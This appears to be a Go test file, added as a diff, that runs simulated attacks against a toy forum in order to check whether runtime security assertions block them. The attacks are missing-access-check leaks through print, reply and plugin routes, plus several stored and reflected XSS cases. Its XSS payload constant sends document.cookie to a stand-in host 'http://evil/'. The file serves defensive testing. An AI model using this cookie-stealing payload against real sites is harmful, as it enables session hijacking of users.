@@ -1,0 +1,161 @@
+package forum
+
+import (
+	"strings"
+
+	"resin/internal/core"
+	"resin/internal/whois"
+)
+
+const staffSecret = "root123"
+
+// newInstance builds a forum (plus its whois service) for an attack run.
+func newInstance(withAssertions bool) (*App, *whois.Server) {
+	rt := core.NewRuntime()
+	if !withAssertions {
+		rt = core.NewUntrackedRuntime()
+	}
+	ws := whois.NewServer()
+	return New(rt, ws, withAssertions), ws
+}
+
+// blockedBy extracts the assertion error, if any.
+func blockedBy(err error) error {
+	if err == nil {
+		return nil
+	}
+	if _, ok := core.IsAssertionError(err); ok {
+		return err
+	}
+	return nil
+}
+
+// --- Missing read access checks (1 known + 3 discovered) ---
+
+// AttackPrintView: the previously-known CVE-shape bug — the
+// printer-friendly view forgot the access check.
+func AttackPrintView(withAssertions bool) (leaked bool, blockErr error) {
+	a, _ := newInstance(withAssertions)
+	mallory := a.Server.NewSession("mallory")
+	resp, err := a.Server.Do("GET", "/printview", map[string]string{"msg": "2"}, mallory)
+	return strings.Contains(resp.RawBody(), staffSecret), blockedBy(err)
+}
+
+// AttackReplyQuote: the §6.3 reply path — replying to an unreadable
+// message quotes its content into the reply form.
+func AttackReplyQuote(withAssertions bool) (leaked bool, blockErr error) {
+	a, _ := newInstance(withAssertions)
+	mallory := a.Server.NewSession("mallory")
+	resp, err := a.Server.Do("GET", "/reply", map[string]string{"msg": "2"}, mallory)
+	return strings.Contains(resp.RawBody(), staffSecret), blockedBy(err)
+}
+
+// AttackPluginLatest: a third-party "latest posts" plugin lists messages
+// from all forums without access checks.
+func AttackPluginLatest(withAssertions bool) (leaked bool, blockErr error) {
+	a, _ := newInstance(withAssertions)
+	mallory := a.Server.NewSession("mallory")
+	resp, err := a.Server.Do("GET", "/plugin/latest", nil, mallory)
+	return strings.Contains(resp.RawBody(), staffSecret), blockedBy(err)
+}
+
+// AttackPluginSearch: a third-party search plugin matches messages in
+// forums the searcher may not read.
+func AttackPluginSearch(withAssertions bool) (leaked bool, blockErr error) {
+	a, _ := newInstance(withAssertions)
+	mallory := a.Server.NewSession("mallory")
+	resp, err := a.Server.Do("GET", "/plugin/search", map[string]string{"q": "backup"}, mallory)
+	return strings.Contains(resp.RawBody(), staffSecret), blockedBy(err)
+}
+
+// --- Cross-site scripting (4 known) ---
+
+const xssPayload = `<script>document.location='http://evil/?c='+document.cookie</script>`
+
+// AttackSignatureXSS: mallory stores a script in her signature; the
+// victim views her profile, which renders the signature raw.
+func AttackSignatureXSS(withAssertions bool) (leaked bool, blockErr error) {
+	a, _ := newInstance(withAssertions)
+	mallory := a.Server.NewSession("mallory")
+	a.Server.Do("GET", "/register", map[string]string{"name": "mallory"}, mallory)
+	if _, err := a.Server.Do("GET", "/setsig", map[string]string{"sig": xssPayload}, mallory); err != nil {
+		return false, blockedBy(err)
+	}
+	victim := a.Server.NewSession("victim")
+	resp, err := a.Server.Do("GET", "/profile", map[string]string{"user": "mallory"}, victim)
+	return strings.Contains(resp.RawBody(), "<script>"), blockedBy(err)
+}
+
+// AttackWhoisXSS: the §6.3 unusual path — the adversary plants JavaScript
+// in a whois record; the forum renders the whois response raw.
+func AttackWhoisXSS(withAssertions bool) (leaked bool, blockErr error) {
+	a, ws := newInstance(withAssertions)
+	ws.SetRecord("6.6.6.6", "owner: "+xssPayload)
+	victim := a.Server.NewSession("victim")
+	resp, err := a.Server.Do("GET", "/whois", map[string]string{"ip": "6.6.6.6"}, victim)
+	return strings.Contains(resp.RawBody(), "<script>"), blockedBy(err)
+}
+
+// AttackSearchEchoXSS: the search plugin echoes the query unescaped; the
+// adversary sends the victim a crafted search link.
+func AttackSearchEchoXSS(withAssertions bool) (leaked bool, blockErr error) {
+	a, _ := newInstance(withAssertions)
+	victim := a.Server.NewSession("victim")
+	resp, err := a.Server.Do("GET", "/plugin/search", map[string]string{"q": xssPayload}, victim)
+	return strings.Contains(resp.RawBody(), "<script>"), blockedBy(err)
+}
+
+// AttackSubjectXSS: mallory posts a message whose subject carries a
+// script; the single-post view renders subjects raw.
+func AttackSubjectXSS(withAssertions bool) (leaked bool, blockErr error) {
+	a, _ := newInstance(withAssertions)
+	mallory := a.Server.NewSession("mallory")
+	resp, err := a.Server.Do("GET", "/post",
+		map[string]string{"forum": "1", "subject": xssPayload, "body": "hi"}, mallory)
+	if be := blockedBy(err); be != nil {
+		return false, be
+	}
+	id := strings.TrimPrefix(resp.RawBody(), "posted #")
+	victim := a.Server.NewSession("victim")
+	resp, err = a.Server.Do("GET", "/viewpost", map[string]string{"msg": id}, victim)
+	return strings.Contains(resp.RawBody(), "<script>"), blockedBy(err)
+}
+
+// --- Legitimate flows ---
+
+// LegitimateTopicView checks that ordinary forum reading still works with
+// the assertions installed.
+func LegitimateTopicView(withAssertions bool) (ok bool, err error) {
+	a, _ := newInstance(withAssertions)
+	mallory := a.Server.NewSession("mallory")
+	resp, err := a.Server.Do("GET", "/topic", map[string]string{"forum": "1"}, mallory)
+	if err != nil {
+		return false, err
+	}
+	return strings.Contains(resp.RawBody(), "welcome to the board"), nil
+}
+
+// LegitimateStaffView checks that staff can still read the staff forum
+// through every path.
+func LegitimateStaffView(withAssertions bool) (ok bool, err error) {
+	a, _ := newInstance(withAssertions)
+	admin := a.Server.NewSession("admin")
+	for _, route := range []struct {
+		path   string
+		params map[string]string
+	}{
+		{"/topic", map[string]string{"forum": "2"}},
+		{"/printview", map[string]string{"msg": "2"}},
+		{"/reply", map[string]string{"msg": "2"}},
+		{"/plugin/latest", nil},
+	} {
+		resp, err := a.Server.Do("GET", route.path, route.params, admin)
+		if err != nil {
+			return false, err
+		}
+		if !strings.Contains(resp.RawBody(), staffSecret) {
+			return false, nil
+		}
+	}
+	return true, nil
+}
